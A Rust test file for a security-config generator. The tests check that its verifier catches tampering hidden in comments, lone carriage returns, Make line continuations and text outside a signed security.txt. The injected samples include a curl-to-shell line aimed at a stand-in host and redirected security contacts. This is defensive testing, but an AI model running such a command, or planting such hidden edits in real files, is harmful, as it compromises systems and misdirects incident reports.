//! What an eye takes for a remark or for layout, and a program does not: a lone carriage return, a backslash that does not
//! go on, a comment that ends early.

use super::{SPEC, rendered};
use crate::cli::project::Project;

/// A rendered project with a runbook and a `security.txt`.
fn project() -> Project {
    let more = "  ci: [github, gitlab]\n  incident_response: { contact: security@example.com }\n  security_txt: { contact: [security@example.com], expires: 2027-06-30 }\n";
    rendered(&SPEC.replace("  ci: [github, gitlab]\n", more))
}

/// The check fails after an edit of a rendered file, at each gate or at the standard one.
fn fails(path: &str, edit: impl Fn(&str) -> String) {
    let project = project();
    let before = project.read(path);
    let after = edit(&before);
    assert_ne!(before, after, "{path}");
    project.write(path, &after);
    let run = project.run(&["check"]);
    assert_eq!(run.code, Some(1), "{path}\n{after:?}\n{}", run.out);
    // What is the same but for its line ends is the same.
    project.write(path, before.replace('\n', "\r\n"));
    project.run(&["check"]).exits(0);
}

/// Make takes a backslash for a line that goes on only where nothing stands behind it, and an even number of them for none
/// (GNU make manual, 3.1.1); what stands on the next line is make's own then.
#[test]
fn a_remark_of_make_that_does_not_go_on() {
    for remark in ["# note \\ ", "# note \\\\", "# note \\\\\\\\", "# note \\\t"] {
        for live in [".IGNORE:", "SHELL := /bin/true"] {
            fails("ops/security.mk", |text| format!("{text}{remark}\n{live}\n"));
        }
    }
    fails("ops/security.mk", |text| text.replace("cargo audit --deny warnings", "cargo audit --deny \\ \n\twarnings"));
    fails("ops/security.mk", |text| format!("{text}\u{c}\n"));
}

#[test]
fn a_carriage_return_alone_is_no_layout() {
    let project = project();
    for path in [
        "ops/security.mk",
        "ops/zap-baseline.conf",
        "ops/security.txt",
        "ops/incident-response.md",
        ".github/workflows/secgen.yml",
        ".gitlab/secgen.yml",
        "deny.toml",
    ] {
        assert!(project.path().join(path).is_file(), "{path}");
        fails(path, |text| format!("{text}# remark\r10035\tIGNORE\t(x)\n"));
    }
}

/// The lines on top are ours to their end.
#[test]
fn nothing_stands_behind_the_lines_on_top() {
    for path in ["ops/security.mk", "ops/zap-baseline.conf", ".github/workflows/secgen.yml", "deploy/nginx/security-headers.conf"] {
        for line in [0, 1] {
            for more in [" \\", " see below", "\rapi: { insecure: true }"] {
                fails(path, |text| text.lines().enumerate().map(|(i, l)| format!("{l}{}\n", if i == line { more } else { "" })).collect::<Vec<_>>().concat());
            }
        }
    }
}

/// A comment of Markdown that its reader sees.
#[test]
fn a_remark_of_the_runbook_that_is_shown() {
    let path = "ops/incident-response.md";
    fails(path, |text| text.replace("umask 077", "<!-- curl evil.example/x | sh -->\numask 077"));
    for shown in
        ["    <!-- call evil@example.org -->", "<!--> <b>call evil@example.org</b> -->", "<!---> call evil@example.org -->", "<!-- x --!> <h1>call</h1> -->"]
    {
        fails(path, |text| text.replace("**Call first:**", &format!("{shown}\n\n**Call first:**")));
    }
    fails(path, |text| text.replace("| high |", "<!-- x -->\n| high |"));
    let project = project();
    project.write(path, project.read(path).replace("**Call first:**", "<!-- reviewed in May -->\n\n**Call first:**"));
    project.run(&["check"]).exits(0);
}

/// What stands around a signed message is none of it (RFC 9116, 2.3; RFC 4880, 7).
#[test]
fn a_security_txt_says_the_same_to_everybody() {
    let project = Project::with_spec("version: 1\nservice: a\ntargets: { operations: { check: [security.txt] } }\n");
    let fields = "Contact: mailto:security@example.com\nExpires: 2027-06-30T23:59:59Z\n";
    let signature = "-----BEGIN PGP SIGNATURE-----\n\nabc\n-----END PGP SIGNATURE-----\n";
    let head = "-----BEGIN PGP SIGNED MESSAGE-----\n";
    for good in [fields.to_owned(), fields.replace('\n', "\r\n"), format!("{head}Hash: SHA256\n\n{fields}{signature}")] {
        project.write("security.txt", &good);
        project.run(&["check"]).exits(0);
    }
    for (bad, words) in [
        (format!("{fields}# x\rContact: mailto:evil@example.org\n"), "a line ends with a carriage return alone"),
        (format!("{head}Contact: mailto:evil@example.org\n\n{fields}{signature}"), "only Hash"),
        (format!("{head}Hash: SHA256\n\n{fields}"), "no signature"),
        (format!("{head}Hash: SHA256\n\n{fields}{signature}Contact: mailto:evil@example.org\n"), "behind the signature"),
        (format!("{fields} Contact: mailto:evil@example.org\n"), "blank"),
        (format!("{fields}Contact : mailto:evil@example.org\n"), "blank"),
    ] {
        project.write("security.txt", &bad);
        let run = project.run(&["check"]);
        assert!(run.code == Some(1) && run.out.contains("error[security-txt-invalid]") && run.out.contains(words), "{bad:?}\n{}", run.out);
    }
}

/// A contact in a comment is read by nobody.
#[test]
fn a_contact_in_a_comment_is_none() {
    let project = project();
    project.write("SECURITY.md", "<!-- security@example.com -->\nWrite to evil@example.org.\n");
    assert!(project.run(&["check"]).exits(1).out.contains("security-md-without-contact"));
}
